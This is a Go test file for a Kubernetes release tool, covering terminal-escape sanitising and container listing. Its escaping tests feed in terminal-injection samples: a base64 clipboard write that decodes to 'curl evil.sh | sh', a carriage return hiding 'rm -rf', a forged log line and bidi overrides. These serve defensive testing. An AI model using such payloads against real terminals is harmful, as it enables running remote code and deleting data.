package release

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/utils/ptr"
)

func TestEscapeTerminal(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "kubectl ship promote web", "kubectl ship promote web"},
		{"utf-8 text stays", "déploiement 部署", "déploiement 部署"},
		{"OSC 52 clipboard write", "x\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", `x^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`},
		{"colour and cursor moves", "\x1b[31mred\x1b[0m\x1b[2K\x1b[1A", `^[[31mred^[[0m^[[2K^[[1A`},
		{"a forged line", "promote web\nweb promoted by security team", `promote web\nweb promoted by security team`},
		{"carriage return over the line", "ok\rrm -rf", `ok\rrm -rf`},
		{"tabs that shift columns", "a\tb", `a\tb`},
		{"other C0 and DEL", "\x00\x08\x7f", `\x00\x08\x7f`},
		{"C1 CSI and OSC", "\u009b31m\u009d52;c;x", `\u009b31m\u009d52;c;x`},
		{"bidi override", "abc\u202edcba", `abc\u202edcba`},
		{"line separator", "a\u2028b", `a\u2028b`},
		{"bytes that are not UTF-8", "a\x9bb\xff", `a\x9bb\xff`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := EscapeTerminal(tt.in)
			if got != tt.want {
				t.Errorf("EscapeTerminal(%q) = %q, want %q", tt.in, got, tt.want)
			}
			if strings.ContainsFunc(got, func(r rune) bool { return r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) }) {
				t.Errorf("%q still holds a control character", got)
			}
			if again := EscapeTerminal(got); again != got {
				t.Errorf("escaping twice changed %q to %q", got, again)
			}
		})
	}
}

func TestContainersListsEveryType(t *testing.T) {
	spec := &corev1.PodSpec{
		Containers: []corev1.Container{{Name: "web", Image: "web:1"}, {Name: "proxy", Image: "envoy:1"}},
		InitContainers: []corev1.Container{{Name: "migrate", Image: "web:1"},
			{Name: "log", Image: "fluent:1", RestartPolicy: ptr.To(corev1.ContainerRestartPolicyAlways)}},
	}
	var got []string
	for _, c := range Containers(spec) {
		got = append(got, c.Type+":"+c.Name+"="+c.Image)
	}
	if want := "container:web=web:1 container:proxy=envoy:1 initContainer:migrate=web:1 sidecar:log=fluent:1"; strings.Join(got, " ") != want {
		t.Errorf("got  %s\nwant %s", strings.Join(got, " "), want)
	}
	if images := Images(Containers(spec)); strings.Join(images, ",") != "web:1,envoy:1,web:1,fluent:1" {
		t.Errorf("images %v", images)
	}
}
